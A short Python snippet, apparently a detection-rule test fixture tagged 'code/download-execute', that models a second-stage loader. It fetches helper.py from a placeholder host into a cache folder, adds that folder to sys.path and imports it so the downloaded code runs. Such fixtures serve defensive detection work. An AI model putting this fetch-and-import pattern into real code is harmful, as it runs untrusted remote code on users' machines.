# Defanged model of a second stage loaded through the import machinery: the module is fetched into a
# cache folder, the folder goes on sys.path, and importing it runs it. No shell, no exec.
import os
import sys

import requests

cache = os.path.join(os.path.expanduser('~'), '.cache', 'stager')
os.makedirs(cache, exist_ok=True)
with open(os.path.join(cache, 'helper.py'), 'wb') as fh:
    fh.write(requests.get('https://updates.example.invalid/helper.py').content)
# ruleid: code/download-execute
sys.path.append(cache)
import helper  # noqa: E402
